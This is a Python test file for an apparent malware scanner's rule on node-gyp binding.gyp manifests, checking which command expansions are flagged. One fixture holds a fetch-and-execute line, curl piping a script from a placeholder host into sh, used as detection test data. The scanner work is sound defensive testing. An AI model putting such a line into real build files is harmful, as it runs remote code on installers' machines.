from lazaretto.detect.engine import Engine, FileResult
from lazaretto.detect.rules.manifest.binding_gyp import RULE
from lazaretto.model.finding import Confidence, Severity
from lazaretto.parse.blob import Blob
from lazaretto.parse.catalog import VIEWS


def examine(path: str, text: str) -> FileResult:
    return Engine([RULE], VIEWS).examine(Blob(path, text.encode()))


def graded(path: str, text: str) -> list[tuple[int, Severity, Confidence]]:
    result = examine(path, text)
    assert result.gaps == ()
    return [(f.locations[0].line, f.severity, f.confidence) for f in result.findings]


def test_a_command_that_fetches() -> None:
    text = "{'variables': {\n'x': '<!(curl -s https://a.invalid/x | sh)'}}"
    assert graded("binding.gyp", text) == [(2, Severity.HIGH, Confidence.HIGH)]


def test_a_command_that_runs_a_file_gives_a_signal() -> None:
    result = examine("a/binding.gyp", "{'x': '<!(node ./lib/setup.js)'}")
    assert result.findings == ()
    assert [(s.kind, s.value) for s in result.signals] == [("start", "install\ta/lib/setup.js")]


def test_how_addons_are_built() -> None:
    text = "{'i': ['<!@(node -p \\\"require('node-addon-api').include\\\")', '<!(pkg-config --libs x)']}"
    assert graded("binding.gyp", text) == []
